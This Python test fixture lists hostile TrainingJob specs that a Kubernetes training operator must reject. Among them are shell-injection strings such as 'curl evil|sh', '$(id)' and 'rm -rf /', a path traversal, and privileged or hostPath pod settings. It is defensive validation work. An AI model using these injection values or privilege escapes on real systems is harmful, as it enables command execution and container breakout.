"""A corpus of hostile TrainingJob specs, tried as an attacker or a careless user would.

Each case is a patch on a valid spec and the field its message must name. The
model refuses every case with that field in its message (tests/unit/test_hostile.py);
the real API server refuses the same at `kubectl apply` (tests/cluster/test_hostile.py),
except the cases in `AFTER_APPLY`, which only the operator can judge: those must end
in a named SpecValid=False condition with nothing created.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from typing import Any

BASE: dict[str, Any] = {
    "image": "ghcr.io/trainop/trainer:0.1.0",
    "entrypoint": {"module": "trainop_runtime.examples.tinylm"},
    "replicas": 2,
}
HUGE = 300_000_000_000  # once wedged a job in an OverflowError loop
SHA = "sha256:" + "0" * 64


@dataclass(frozen=True)
class Case:
    id: str
    patch: dict[str, Any]
    field: str  # the field path the message must name
    drop: tuple[str, ...] = ()  # top-level spec keys to remove
    also: str = ""  # a second part of the message, e.g. the setting inside a container

    def spec(self) -> dict[str, Any]:
        out = merge(copy.deepcopy(BASE), self.patch)
        for key in self.drop:
            out.pop(key, None)
        return out


def merge(base: dict[str, Any], patch: dict[str, Any]) -> dict[str, Any]:
    for key, value in patch.items():
        if value is None:  # None removes the field
            base.pop(key, None)
        elif isinstance(value, dict) and isinstance(base.get(key), dict):
            merge(base[key], value)
        else:
            base[key] = value
    return base


def _pt(pod_spec: dict[str, Any]) -> dict[str, Any]:
    return {"podTemplate": {"spec": pod_spec}}


# Refused at `kubectl apply` (CRD schema, CEL rules, strict field validation) and by the model.
REFUSED_AT_APPLY: list[Case] = [
    # replicas and their bounds
    Case("replicas-zero", {"replicas": 0}, "spec.replicas"),
    Case("replicas-negative", {"replicas": -1}, "spec.replicas"),
    Case("replicas-too-many", {"replicas": 1025}, "spec.replicas"),
    Case("replicas-string", {"replicas": "two"}, "spec.replicas"),
    Case("replicas-float", {"replicas": 1.5}, "spec.replicas"),
    Case("min-zero", {"minReplicas": 0}, "spec.minReplicas"),
    Case("min-above-replicas", {"minReplicas": 3}, "spec.minReplicas"),
    Case("max-below-replicas", {"maxReplicas": 1}, "spec.maxReplicas"),
    Case("max-typo", {"maxReplica": 4}, "spec.maxReplica"),
    Case("top-level-typo", {"replcas": 4}, "spec.replcas"),
    # image: the reference grammar, nothing a shell would read
    Case("image-empty", {"image": ""}, "spec.image"),
    Case("image-missing", {}, "spec.image", drop=("image",)),
    Case("image-space", {"image": "ghcr.io/x/y :1"}, "spec.image"),
    Case("image-subshell", {"image": "ghcr.io/x:$(id)"}, "spec.image"),
    Case("image-backtick", {"image": "ghcr.io/x:`id`"}, "spec.image"),
    Case("image-semicolon-pipe", {"image": "ghcr.io/x;curl evil|sh"}, "spec.image"),
    Case("image-newline", {"image": "ghcr.io/x\nevil"}, "spec.image"),
    Case("image-too-long", {"image": "ghcr.io/" + "a" * 600}, "spec.image"),
    Case("image-bad-digest", {"image": "ghcr.io/x@sha256:xyz"}, "spec.image"),
    Case("image-uppercase-repo", {"image": "ghcr.io/Org/Trainer:1"}, "spec.image"),
    Case("image-pull-policy", {"imagePullPolicy": "Sometimes"}, "spec.imagePullPolicy"),
    # entrypoint
    Case("entrypoint-empty", {"entrypoint": {"module": None}}, "spec.entrypoint"),
    Case(
        "entrypoint-two",
        {"entrypoint": {"module": "a", "script": "b.py"}},
        "spec.entrypoint",
    ),
    Case("module-shell", {"entrypoint": {"module": "os; rm -rf /"}}, "spec.entrypoint.module"),
    Case(
        "script-traversal",
        {"entrypoint": {"module": None, "script": "../../../etc/evil.py"}},
        "spec.entrypoint.script",
    ),
    Case(
        "script-option",
        {"entrypoint": {"module": None, "script": "-m.py"}},
        "spec.entrypoint.script",
    ),
    Case(
        "command-option",
        {"entrypoint": {"module": None, "command": ["--rdzv-endpoint=evil:1"]}},
        "spec.entrypoint.command",
    ),
    Case(
        "command-empty",
        {"entrypoint": {"module": None, "command": []}},
        "spec.entrypoint.command",
    ),
    Case("args-too-many", {"entrypoint": {"args": ["x"] * 300}}, "spec.entrypoint.args"),
    Case("args-not-strings", {"entrypoint": {"args": [{"a": 1}]}}, "spec.entrypoint.args"),
    # env
    Case("env-name-digit", {"env": [{"name": "1BAD", "value": "x"}]}, "spec.env"),
    Case("env-name-empty", {"env": [{"name": "", "value": "x"}]}, "spec.env"),
    Case("env-name-missing", {"env": [{"value": "x"}]}, "spec.env"),
    Case("env-not-a-list", {"env": {"A": "b"}}, "spec.env"),
    # resources
    Case("gpus-negative", {"resources": {"gpus": -1}}, "spec.resources.gpus"),
    Case("gpus-too-many", {"resources": {"gpus": 65}}, "spec.resources.gpus"),
    Case("cpu-words", {"resources": {"cpu": "4 cores"}}, "spec.resources.cpu"),
    Case("memory-gb", {"resources": {"memory": "16GB"}}, "spec.resources.memory"),
    Case("memory-shell", {"resources": {"memory": "1Gi; rm"}}, "spec.resources.memory"),
    Case(
        "gpu-name-no-domain",
        {"resources": {"gpuResourceName": "gpu"}},
        "spec.resources.gpuResourceName",
    ),
    Case("resources-typo", {"resources": {"gpu": 1}}, "spec.resources.gpu"),
    Case("nproc-zero", {"nprocPerNode": 0}, "spec.nprocPerNode"),
    Case("nproc-too-many", {"nprocPerNode": 65}, "spec.nprocPerNode"),
    # rendezvous
    Case("rdzv-port-privileged", {"rendezvous": {"port": 80}}, "spec.rendezvous.port"),
    Case("rdzv-port-too-big", {"rendezvous": {"port": 70000}}, "spec.rendezvous.port"),
    Case(
        "rdzv-join-zero",
        {"rendezvous": {"joinTimeoutSeconds": 0}},
        "spec.rendezvous.joinTimeoutSeconds",
    ),
    Case(
        "rdzv-join-huge",
        {"rendezvous": {"joinTimeoutSeconds": HUGE}},
        "spec.rendezvous.joinTimeoutSeconds",
    ),
    Case(
        "rdzv-last-call-huge",
        {"rendezvous": {"lastCallTimeoutSeconds": 7200}},
        "spec.rendezvous.lastCallTimeoutSeconds",
    ),
    Case(
        "rdzv-restarts-negative",
        {"rendezvous": {"maxRestartsPerAgent": -1}},
        "spec.rendezvous.maxRestartsPerAgent",
    ),
    # failure policy
    Case(
        "backoff-limit-negative",
        {"failurePolicy": {"backoffLimit": -1}},
        "spec.failurePolicy.backoffLimit",
    ),
    Case(
        "backoff-huge",
        {"failurePolicy": {"backoffSeconds": HUGE}},
        "spec.failurePolicy.backoffSeconds",
    ),
    Case(
        "max-backoff-huge",
        {"failurePolicy": {"maxBackoffSeconds": HUGE}},
        "spec.failurePolicy.maxBackoffSeconds",
    ),
    Case(
        "rule-no-matcher",
        {"failurePolicy": {"rules": [{"action": "RestartPod"}]}},
        "spec.failurePolicy.rules",
    ),
    Case(
        "rule-bad-action",
        {"failurePolicy": {"rules": [{"action": "Explode", "exitCodes": [1]}]}},
        "spec.failurePolicy.rules",
    ),
    Case(
        "rule-exit-zero",
        {"failurePolicy": {"rules": [{"action": "FailJob", "exitCodes": [0]}]}},
        "spec.failurePolicy.rules",
    ),
    Case(
        "rule-bad-reason",
        {"failurePolicy": {"rules": [{"action": "FailJob", "reasons": ["Bored"]}]}},
        "spec.failurePolicy.rules",
    ),
    # run policy: numbers that become times
    Case(
        "deadline-huge",
        {"runPolicy": {"activeDeadlineSeconds": HUGE}},
        "spec.runPolicy.activeDeadlineSeconds",
    ),
    Case(
        "deadline-zero",
        {"runPolicy": {"activeDeadlineSeconds": 0}},
        "spec.runPolicy.activeDeadlineSeconds",
    ),
    Case(
        "ttl-huge",
        {"runPolicy": {"ttlSecondsAfterFinished": HUGE}},
        "spec.runPolicy.ttlSecondsAfterFinished",
    ),
    Case(
        "ttl-negative",
        {"runPolicy": {"ttlSecondsAfterFinished": -1}},
        "spec.runPolicy.ttlSecondsAfterFinished",
    ),
    Case(
        "clean-pod-policy",
        {"runPolicy": {"cleanPodPolicy": "Sometimes"}},
        "spec.runPolicy.cleanPodPolicy",
    ),
    Case(
        "grace-huge", {"terminationGracePeriodSeconds": HUGE}, "spec.terminationGracePeriodSeconds"
    ),
    Case(
        "grace-negative",
        {"terminationGracePeriodSeconds": -1},
        "spec.terminationGracePeriodSeconds",
    ),
    Case("suspend-string", {"suspend": "yes"}, "spec.suspend"),
    # checkpoints
    Case(
        "mount-relative",
        {"checkpoint": {"mountPath": "checkpoints"}},
        "spec.checkpoint.mountPath",
    ),
    Case("mount-space", {"checkpoint": {"mountPath": "/a b"}}, "spec.checkpoint.mountPath"),
    Case("every-steps-zero", {"checkpoint": {"everySteps": 0}}, "spec.checkpoint.everySteps"),
    Case(
        "every-seconds-huge",
        {"checkpoint": {"everySeconds": HUGE}},
        "spec.checkpoint.everySeconds",
    ),
    # scheduling
    Case(
        "priority-class-spaces",
        {"scheduling": {"priorityClassName": "high priority"}},
        "spec.scheduling.priorityClassName",
    ),
    Case(
        "scheduler-uppercase",
        {"scheduling": {"schedulerName": "Volcano"}},
        "spec.scheduling.schedulerName",
    ),
    Case(
        "node-selector-int",
        {"scheduling": {"nodeSelector": {"gpu": 1}}},
        "spec.scheduling.nodeSelector",
    ),
    # podTemplate: the real PodSpec schema, and restartPolicy Never only
    Case("pod-typo", _pt({"nodeSelecter": {"a": "b"}}), "spec.podTemplate.spec.nodeSelecter"),
    Case(
        "pod-nested-typo",
        _pt({"containers": [{"name": "trainer", "resources": {"limts": {"cpu": "1"}}}]}),
        "spec.podTemplate.spec.containers[0].resources.limts",
    ),
    Case(
        "pod-restart-always",
        _pt({"restartPolicy": "Always"}),
        "spec.podTemplate.spec.restartPolicy",
    ),
    Case(
        "pod-restart-on-failure",
        _pt({"restartPolicy": "OnFailure"}),
        "spec.podTemplate.spec.restartPolicy",
    ),
    Case(
        "pod-host-network-string", _pt({"hostNetwork": "yes"}), "spec.podTemplate.spec.hostNetwork"
    ),
    Case(
        "pod-container-unnamed",
        _pt({"containers": [{"image": "x"}]}),
        "spec.podTemplate.spec.containers[0].name",
    ),
    Case(
        "pod-dns-policy",
        _pt({"dnsPolicy": "Whatever"}),
        "spec.podTemplate.spec.dnsPolicy",
    ),
    Case(
        "pod-template-labels-int",
        {"podTemplate": {"metadata": {"labels": {"a": 1}}}},
        "spec.podTemplate.metadata.labels",
    ),
    Case("pod-template-typo", {"podTemplate": {"metadat": {}}}, "spec.podTemplate.metadat"),
    # metrics sidecar
    Case("metrics-port-privileged", {"metrics": {"port": 22}}, "spec.metrics.port"),
    Case("metrics-image-shell", {"metrics": {"image": "x;y"}}, "spec.metrics.image"),
]

# Valid for the schema; only the API server's admission or the cluster's state can say no.
# The operator must leave the job Pending with SpecValid=False naming the field, create
# nothing, and keep running. (reason of the condition, field the message names)
AFTER_APPLY: list[tuple[Case, str]] = [
    (
        Case(
            "unknown-priority-class",
            {"scheduling": {"priorityClassName": "no-such-class"}},
            "no-such-class",
        ),
        "AdmissionRejected",
    ),
    (
        Case(
            "missing-pvc",
            {"checkpoint": {"volume": {"persistentVolumeClaim": {"claimName": "no-such-claim"}}}},
            "spec.checkpoint.volume",
        ),
        "CheckpointVolumeNotFound",
    ),
    (
        Case(
            "pod-port-out-of-range",
            _pt({"containers": [{"name": "trainer", "ports": [{"containerPort": 99999}]}]}),
            "containerPort",
        ),
        "AdmissionRejected",
    ),
]


def _ctr(name: str = "trainer", **fields: Any) -> dict[str, Any]:
    return {"name": name, **({"image": "busybox:1"} if name != "trainer" else {}), **fields}


def _sc(**context: Any) -> dict[str, Any]:
    return {"securityContext": context}


# Every Pod Security "baseline" control a podTemplate (or the checkpoint volume) can break.
# Refused at kubectl apply by the chart's ValidatingAdmissionPolicy and, where that is not
# installed, by the operator (SpecValid=False, reason PodSecurity, nothing created).
POD_SECURITY: list[Case] = [
    Case("host-network", _pt({"hostNetwork": True}), "spec.podTemplate.spec.hostNetwork"),
    Case("host-pid", _pt({"hostPID": True}), "spec.podTemplate.spec.hostPID"),
    Case("host-ipc", _pt({"hostIPC": True}), "spec.podTemplate.spec.hostIPC"),
    Case(
        "privileged-trainer",
        _pt({"containers": [_ctr(**_sc(privileged=True))]}),
        "spec.podTemplate.spec.containers[",
        also="securityContext.privileged",
    ),
    Case(
        "privileged-extra-container",
        _pt({"containers": [_ctr("debug", **_sc(privileged=True))]}),
        "spec.podTemplate.spec.containers[",
        also="securityContext.privileged",
    ),
    Case(
        "privileged-init-container",
        _pt({"initContainers": [_ctr("setup", **_sc(privileged=True))]}),
        "spec.podTemplate.spec.initContainers[",
        also="securityContext.privileged",
    ),
    Case(
        "cap-sys-admin",
        _pt({"containers": [_ctr(**_sc(capabilities={"add": ["SYS_ADMIN"]}))]}),
        "spec.podTemplate.spec.containers[",
        also="capabilities.add",
    ),
    Case(
        "cap-ipc-lock",
        _pt({"containers": [_ctr(**_sc(capabilities={"add": ["IPC_LOCK"]}))]}),
        "spec.podTemplate.spec.containers[",
        also="capabilities.add",
    ),
    Case(
        "cap-net-admin-init",
        _pt({"initContainers": [_ctr("net", **_sc(capabilities={"add": ["NET_ADMIN"]}))]}),
        "spec.podTemplate.spec.initContainers[",
        also="capabilities.add",
    ),
    Case(
        "host-path-volume",
        _pt({"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}),
        "spec.podTemplate.spec.volumes",
        also="hostPath",
    ),
    Case(
        "host-path-checkpoint",
        {"checkpoint": {"volume": {"hostPath": {"path": "/var/ckpt"}}}},
        "spec.checkpoint.volume.hostPath",
    ),
    Case(
        "host-port",
        _pt({"containers": [_ctr(ports=[{"containerPort": 8080, "hostPort": 8080}])]}),
        "spec.podTemplate.spec.containers[",
        also="hostPort",
    ),
    Case(
        "seccomp-unconfined-pod",
        _pt(_sc(seccompProfile={"type": "Unconfined"})),
        "spec.podTemplate.spec.securityContext",
        also="seccompProfile",
    ),
    Case(
        "seccomp-unconfined-container",
        _pt({"containers": [_ctr(**_sc(seccompProfile={"type": "Unconfined"}))]}),
        "spec.podTemplate.spec.containers[",
        also="seccompProfile",
    ),
    Case(
        "apparmor-unconfined",
        _pt({"containers": [_ctr(**_sc(appArmorProfile={"type": "Unconfined"}))]}),
        "spec.podTemplate.spec.containers[",
        also="appArmorProfile",
    ),
    Case(
        "selinux-custom-type",
        _pt({"containers": [_ctr(**_sc(seLinuxOptions={"type": "spc_t"}))]}),
        "spec.podTemplate.spec.containers[",
        also="seLinuxOptions",
    ),
    Case(
        "proc-mount-unmasked",
        _pt({"containers": [_ctr(**_sc(procMount="Unmasked"))]}),
        "spec.podTemplate.spec.containers[",
        also="procMount",
    ),
    Case(
        "unsafe-sysctl",
        _pt(_sc(sysctls=[{"name": "kernel.msgmax", "value": "65536"}])),
        "spec.podTemplate.spec.securityContext",
        also="sysctls",
    ),
    Case(
        "windows-host-process",
        _pt(_sc(windowsOptions={"hostProcess": True})),
        "spec.podTemplate.spec.securityContext",
        also="hostProcess",
    ),
]
